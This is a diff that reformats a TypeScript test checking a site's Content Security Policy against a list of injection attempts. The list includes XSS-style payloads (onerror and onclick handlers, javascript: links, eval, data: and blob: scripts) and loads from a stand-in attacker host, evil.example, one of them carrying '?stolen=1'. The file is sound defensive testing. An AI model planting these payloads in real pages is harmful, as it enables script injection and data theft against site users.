@@ -17,12 +17,20 @@ const attempts: readonly (readonly [what: string, directive: string, attempt: ()
   ['a script as data', 'script-src-elem', () => append('script', { src: 'data:text/javascript,window.hacked=1' })],
   ['a script made on the spot', 'script-src-elem', () => append('script', { src: blobOf('window.hacked = 1') })],
   ['a module from elsewhere', 'script-src-elem', () => append('script', { type: 'module', src: 'https://evil.example/x.mjs' })],
-  ['a handler in markup', 'script-src-attr', () => append('div', { innerHTML: '<img src="/no.png" onerror="window.hacked = 1">' })],
-  ['a handler as an attribute', 'script-src-attr', () => {
-    const element = append('button', {});
-    element.setAttribute('onclick', 'window.hacked = 1');
-    element.click();
-  }],
+  [
+    'a handler in markup',
+    'script-src-attr',
+    () => append('div', { innerHTML: '<img src="/no.png" onerror="window.hacked = 1">' }),
+  ],
+  [
+    'a handler as an attribute',
+    'script-src-attr',
+    () => {
+      const element = append('button', {});
+      element.setAttribute('onclick', 'window.hacked = 1');
+      element.click();
+    },
+  ],
   ['a link that is a script', 'script-src-elem', () => append('a', { href: 'javascript:void(window.hacked = 1)' }).click()],
   // The test's own way into the page is exempt from the policy: what a timer calls is the page's.
   ['eval', 'script-src', () => void setTimeout(() => void (0, eval)('window.hacked = 1'))],
@@ -34,7 +42,11 @@ const attempts: readonly (readonly [what: string, directive: string, attempt: ()
   ['a style in the page', 'style-src-elem', () => append('style', { textContent: 'body { display: none }' })],
   ['a style from elsewhere', 'style-src-elem', () => append('link', { rel: 'stylesheet', href: 'https://evil.example/x.css' })],
   ['a style as an attribute', 'style-src-attr', () => append('p', {}).setAttribute('style', 'position: fixed')],
-  ['a font from elsewhere', 'font-src', () => void new FontFace('x', 'url(https://evil.example/x.woff2)').load().catch(() => undefined)],
+  [
+    'a font from elsewhere',
+    'font-src',
+    () => void new FontFace('x', 'url(https://evil.example/x.woff2)').load().catch(() => undefined),
+  ],
   ['a picture from elsewhere', 'img-src', () => append('img', { src: 'https://evil.example/?stolen=1' })],
   ['a picture as data', 'img-src', () => append('img', { src: 'data:image/gif;base64,R0lGODlhAQABAAAAACw=' })],
   ['a film from elsewhere', 'media-src', () => append('video', { src: 'https://evil.example/x.mp4' })],
@@ -73,7 +85,9 @@ describe.each(['/', '/rates/auth', '/no/such/page'])('on %s', (path) => {
     for (const [what, directive, attempt] of attempts) {
       await page.evaluate(() => void (window.refused = []));
       await page.evaluate(attempt);
-      await eventually(async () => expect([what, await page.evaluate(() => window.refused)]).toEqual([what, expect.arrayContaining([directive])]));
+      await eventually(async () =>
+        expect([what, await page.evaluate(() => window.refused)]).toEqual([what, expect.arrayContaining([directive])]),
+      );
     }
     expect(await page.evaluate(() => window.hacked)).toBeUndefined();
     expect(await page.evaluate(() => document.baseURI)).toBe(page.url());
